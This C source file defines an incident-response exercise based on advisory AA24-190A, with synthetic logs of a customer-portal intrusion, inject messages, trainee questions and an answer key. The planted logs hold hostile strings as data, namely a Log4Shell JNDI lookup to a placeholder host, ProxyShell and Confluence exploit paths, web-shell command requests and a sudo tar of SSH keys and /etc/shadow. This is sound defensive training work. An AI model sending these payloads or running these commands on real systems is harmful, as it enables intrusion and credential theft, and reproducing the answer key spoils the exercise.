/*
 * src/exercise/scenario_web.c - a customer portal broken into, after the first
 * case of AA24-190A: known holes tried in vain, a home-made application gives way,
 * web shells, a list of the network, credentials, a step to the jump host.
 */
#include "exercise/shapes_priv.h"

static const struct plant plants[] = {
	/* knocking */
	{ EV_PORTAL, 8, 1903, 2, 60, false, "ipv4", "$a1", "BHV-01",
		{ "CVE-2021-44228 is tried in a header", "ヘッダーを使ったCVE-2021-44228の試行" },
		WEB("$a1", "GET / HTTP/1.1", "200", "$${jndi:ldap://$a1/" NORO_EXERCISE_MARK "}") },
	{ EV_PORTAL, 8, 1907, 2, 60, false, "ipv4", "$a1", "BHV-01",
		{ "CVE-2021-26084 is tried; there is no Confluence here",
			"CVE-2021-26084の試行（Confluenceは存在しない）" },
		WEB("$a1", "POST /pages/createpage-entervariables.action?SpaceKey=x HTTP/1.1",
			"404", "-") },
	{ EV_PORTAL, 8, 1911, 2, 60, false, "ipv4", "$a1", "BHV-01",
		{ "CVE-2021-34473 is tried; there is no Exchange here",
			"CVE-2021-34473の試行（Exchangeは存在しない）" },
		WEB("$a1",
			"GET "
			"/autodiscover/autodiscover.json?@example.org/mapi/nspi/"
			"?&Email=autodiscover/autodiscover.json"
			"%3F@example.org HTTP/1.1",
			"404", "-") },
	/* in */
	{ EV_PORTAL, 9, 1702, 6, 45, false, "ipv4", "$a2", NULL,
		{ "The upload form of the portal is studied",
			"ポータルのアップロード機能が調べられた" },
		WEB("$a2", "GET /portal/upload?id=$r HTTP/1.1", "200", BROWSER) },
	{ EV_PORTAL, 9, 1718, 1, 0, false, "ipv4", "$a2", "BHV-02",
		{ "A script is uploaded", "スクリプトがアップロードされた" },
		WEB("$a2", "POST /portal/upload?name=help.aspx HTTP/1.1", "200", BROWSER) },
	{ EV_PORTAL, 9, 1721, 14, 21000, false, "ipv4", "$a2", "BHV-02",
		{ "The web shell is used", "Webシェルが使用された" },
		WEB("$a2", "POST /portal/uploads/help.aspx?cmd=" NORO_EXERCISE_MARK " HTTP/1.1",
			"200", "-") },
	{ EV_PORTAL, 12, 1805, 8, 30000, false, "ipv4", "$a3", "BHV-02",
		{ "A second web shell from another last hop",
			"別の踏み台からの二つ目のWebシェルの使用" },
		WEB("$a3", "POST /portal/img/cache.jsp HTTP/1.1", "200", "-") },
	{ EV_PORTAL, 10, 1815, 3, 90, false, "ipv4", "$a3", NULL,
		{ "The first shell from a home router",
			"家庭用ルーターを経由した一つ目のWebシェルの使用" },
		WEB("$a3", "GET /portal/uploads/help.aspx HTTP/1.1", "200", BROWSER) },
	{ EV_EVE, 9, 1719, 1, 0, false, "sha256", "$x1", NULL,
		{ "The uploaded file is listed", "アップロードされたファイルは一覧に載っている" },
		EVELINE("fileinfo", "$a2", "203.0.113.20", "443",
			"\"fileinfo\":{\"filename\":\"/portal/upload/" NORO_EXERCISE_MARK
			".aspx\",\"state\":\"CLOSED\","
			"\"stored\":false,\"sha256\":\"$x1\",\"size\":1843,\"tx_id\":0}") },
	{ EV_EVE, 12, 1806, 1, 0, false, "sha256", "$x2", NULL,
		{ "The second file too", "二つ目のファイルも同様" },
		EVELINE("fileinfo", "$a3", "203.0.113.20", "443",
			"\"fileinfo\":{\"filename\":\"/portal/img/" NORO_EXERCISE_MARK
			".jsp\",\"state\":\"CLOSED\",\"stored\":"
			"false,\"sha256\":\"$x2\",\"size\":922,\"tx_id\":0}") },
	/* inside */
	{ EV_CONN, 13, 1812, 25, 3, false, NULL, NULL, "BHV-10",
		{ "The web server looks round the server network",
			"Webサーバーがサーバーネットワークを探索した" },
		CONN("10.30.0.20", "$p", "10.30.0.$t", "445", "tcp", "-", "0", "0", "REJ") },
	{ EV_CONN, 14, 1802, 6, 40000, false, "ipv4", "$a4", "BHV-03",
		{ "A listener on 9998 is used from outside",
			"9998番の待ち受けポートが外部から使用された" },
		CONN("$a4", "$p", "203.0.113.20", "9998", "tcp", "-", "$z", "$z", "SF") },
	{ EV_CONN, 14, 1809, 4, 60000, false, "ipv4", "$a4", "BHV-03",
		{ "And one on 9999", "9999番も同様" },
		CONN("$a4", "$p", "203.0.113.20", "9999", "tcp", "-", "$z", "$z", "SF") },
	{ EV_AUTH, 15, 1703, 24, 7, false, NULL, NULL, "BHV-10",
		{ "Passwords are tried from the web server",
			"Webサーバーからパスワードが試行された" },
		"$I jump1 sshd[$r]: Failed password for $m from 10.30.0.20 port $p ssh2" },
	{ EV_AUTH, 15, 1708, 1, 0, false, NULL, NULL, "BHV-10",
		{ "One of them is right", "そのうち一つが成功した" },
		"$I jump1 sshd[$r]: Accepted password for netops from 10.30.0.20 port $p ssh2" },
	{ EV_AUTH, 15, 1711, 1, 0, false, NULL, NULL, "credential-access",
		{ "Keys and histories are gathered on the jump host",
			"踏み台サーバーで鍵と操作履歴が収集された" },
		"$I jump1 sudo: netops : TTY=pts/4 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/tar "
		"czf /tmp/" NORO_EXERCISE_MARK ".tgz /root/.ssh /etc/shadow" },
	{ EV_AUTH, 17, 1754, 3, 90000, false, "ipv4", "$a5", NULL,
		{ "The same account comes straight from outside",
			"同じアカウントが外部から直接使用された" },
		"$I jump1 sshd[$r]: Accepted password for netops from $a5 port $p ssh2" },
	{ EV_DNS, 15, 1722, 16, 43000, false, "domain", "$d1", NULL,
		{ "A beacon resolves a name below a listed domain",
			"ビーコンが一覧のドメイン配下の名前を解決した" },
		DNSQ("10.30.0.20", "img$r.$d1", "$a6") },
	{ EV_EVE, 15, 1723, 6, 90000, false, "domain", "$d2", NULL,
		{ "Requests to a second listed domain", "二つ目のドメインへの要求" },
		EVELINE("http", "10.30.0.20", "198.18.7.9", "80",
			"\"http\":{\"hostname\":\"$d2\",\"url\":\"/gate/" NORO_EXERCISE_MARK
			"\",\"http_user_agent\":\"-\","
			"\"http_method\":\"POST\",\"status\":200,\"length\":$z}") },
	{ EV_CONN, 19, 1801, 3, 70000, false, "ipv6", "$v1", NULL,
		{ "The beacon over IPv6", "ビーコンのIPv6通信" },
		CONN("2001:db8:c0de:30::20", "$p", "$v1", "443", "tcp", "ssl", "$z", "$z", "SF") },
	{ EV_FORTI, 20, 1815, 5, 30000, false, "ipv4", "$a6", "BHV-11",
		{ "Customer records leave the web server",
			"顧客情報がWebサーバーから持ち出された" },
		FORTILINE("srcip=10.30.0.20 srcport=$p srcintf=\"servers\" dstip=$a6 dstport=443 "
			  "dstintf=\"wan1\" proto=6 "
			  "action=\"close\" policyid=12 service=\"HTTPS\" duration=2210 "
			  "sentbyte=1204532224 rcvdbyte=91234") },
	{ EV_ASA, 22, 1733, 4, 4000, false, "ipv4", "$a7", NULL,
		{ "A new last hop tries the old doors", "新しい踏み台から以前の侵入口が試された" },
		"$B fw1-tyo : %ASA-6-302013: Built inbound TCP connection $n for outside:$a7/$p "
		"($a7/$p) to "
		"dmz:10.30.0.20/443 (203.0.113.20/443)" },
	/* decoys */
	{ EV_PORTAL, 2, 702, 3, 5000, true, "ipv4", "$s1", NULL, STALE_TEXT,
		WEB("$s1", "GET /portal/login HTTP/1.1", "200", BROWSER) },
	{ EV_CONN, 3, 802, 2, 900, true, "ipv4", "$s2", NULL, STALE_TEXT,
		CONN("$s2", "$p", "203.0.113.20", "443", "tcp", "ssl", "$z", "$z", "SF") },
	{ EV_PORTAL, 27, 302, 2, 3600, true, "ipv4", "$s3", NULL, AFTER_TEXT,
		WEB("$s3", "GET /news/ HTTP/1.1", "200", BROWSER) },
	{ EV_PORTAL, 10, 402, 3, 4000, true, "ipv4", "$l1", NULL, LIKE_TEXT,
		WEB("$l1", "GET /faq.html HTTP/1.1", "200", BROWSER) },
	LOOKALIKES,
	{ EV_PORTAL, 12, 230, 3, 30, true, "ipv4", "$k1", "BHV-01", SCANNER_TEXT,
		WEB("$k1", "POST /pages/createpage-entervariables.action HTTP/1.1", "404",
			"example-scanner/4.2") },
	RESOLVER,
	{ EV_AUTH, 16, 204, 1, 0, true, NULL, NULL, "credential-access", APPROVED_TEXT,
		"$I jump1 sudo: tanaka : TTY=pts/2 ; PWD=/home/noc ; USER=root ; "
		"COMMAND=/usr/bin/tar czf /backup/etc.tgz /etc" },
	{ 0 },
};

static const struct inject injects[] = {
	HAND_OUT,
	{ 20, { "A foreign CERT writes: one of your servers talks to a host on its list.",
		      "海外のCERTから連絡。貴社のサーバーの一台が、同CERTの一覧にあるホストと通信し"
		      "ているという。" } },
	{ 45, { "The portal team wants to restore the web server from yesterday's backup and go "
		"on. Answer.",
		      "ポータルの担当者が、昨日のバックアップからWebサーバーを復元して運用を続けた"
		      "いと言う。回答すること。" } },
	{ 70, { "A newspaper asks whether customer data was lost. Prepare what can be said now.",
		      "新聞社から、顧客情報が漏えいしたのかと問い合わせがある。現時点で言えることを"
		      "用意すること。" } },
	BOARD(100),
	{ 0, { NULL, NULL } },
};

const struct scenario noro_exercise_web = {
	.name = "apt40-web",
	.advisory = "AA24-190A",
	.plant = plants,
	.brief = {
		.situation = {
			"You run the network of a small carrier. Its customer portal is a home-made web application. A joint "
			"advisory describes a group that turns new public exploits on old web servers within hours and comes in "
			"through home routers. You have its indicators and four weeks of logs.",
			"あなたは小規模な通信事業者のネットワークを運用している。顧客向けポータルは自社開発のWebアプリケーションである。公開された"
			"攻撃手法を数時間のうちに古いWebサーバーへ使い、家庭用ルーターを経由して侵入するグループについて、国際共同文書が"
			"公表された。その侵害指標と4週間分のログが手元にある。" },
		.question = {
			"1. Did one of the attempts work? Which?\n2. Which files are web shells, and from when?\n3. How far did they "
			"get?\n4. Which hits are false, stale or allowed, and why?\n5. What could the logs not have shown?\n6. What "
			"do you do first, and whom do you tell?",
			"1. 攻撃の試行のうち成功したものはあるか。どれか。\n2. どのファイルがWebシェルか。いつからか。\n3. どこまで侵入されたか。\n"
			"4. 誤検知、期間外、許可済みの一致はどれか。その理由は何か。\n5. これらのログでは分からないことは何か。\n"
			"6. 最初に何をし、誰に知らせるか。" },
		.answer = {
			"The three public exploits of day 9 failed. On day 10 the portal's own upload form took a script: "
			"`help.aspx`, used from then on, later `cache.jsp`. From the web server (10.30.0.20) they looked round, "
			"opened listeners on 9998 and 9999, sprayed passwords on the jump host and got `netops` on day 16, gathered "
			"keys there, and sent customer records out from day 21.",
			"9日目に試された公開済みの3つの攻撃手法はいずれも失敗した。10日目、ポータル自身のアップロード機能からスクリプトが置かれ"
			"（`help.aspx`）、以後使われ続けた。後に`cache.jsp`も加わった。Webサーバー（10.30.0.20）から内部が探索され、"
			"9998番と9999番に待ち受けポートが開かれた。16日目には踏み台サーバーへのパスワードスプレーで`netops`が破られ、鍵が"
			"収集された。21日目以降、顧客情報が持ち出された。" },
		.lesson = {
			"First: take an image of the web server, then cut it off; a restored backup brings the hole back. Change "
			"every secret that lay on the jump host. Several ways in were tried: look for the others.",
			"最初にWebサーバーのイメージを取得し、その後に切り離す。バックアップから復元しても弱点は残ったままである。踏み台サーバーに"
			"あった秘密情報をすべて変更する。複数の侵入口が試されているため、ほかの侵入口も探す。" },
		.inject = injects,
	},
};
